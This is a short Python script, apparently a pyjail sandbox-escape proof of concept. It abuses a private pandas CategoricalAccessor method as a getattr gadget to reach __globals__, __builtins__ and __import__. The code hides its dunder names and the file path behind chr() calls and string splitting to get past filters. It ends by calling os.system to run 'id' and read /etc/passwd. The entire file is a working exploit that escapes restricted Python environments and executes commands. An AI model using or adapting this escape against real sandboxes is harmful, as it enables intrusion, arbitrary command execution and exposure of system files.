# source: pandas 1.5.3 CategoricalAccessor._delegate_property_get (getattr(self._parent, name)); pyjail __globals__ -> __builtins__ -> __import__
# family: `self` second parameter -> write accessor._parent, use unlisted private delegate as getattr by name
# goal: os.system: runs `id`, prints /etc/passwd
import pandas as pd


class Acc:
    def __init__(self):
        self._parent = None

    def _delegate_property_get(self, name):
        return name

    def put(this, self, obj):
        self._parent = obj

    def get(this, self, name):
        return self._delegate_property_get(name)


u = chr(95) * 2
acc = pd.Series(["a"], dtype="category").cat
a = Acc()
a.put(acc, pd.isna)
g = a.get(acc, u + "globals" + u)
b = g[u + "builtins" + u]
imp = b[u + "import" + u]
m = imp("o" + "s")
a.put(acc, m)
run = a.get(acc, "sys" + "tem")
run("id; head -3 " + chr(47) + "etc" + chr(47) + "passwd")
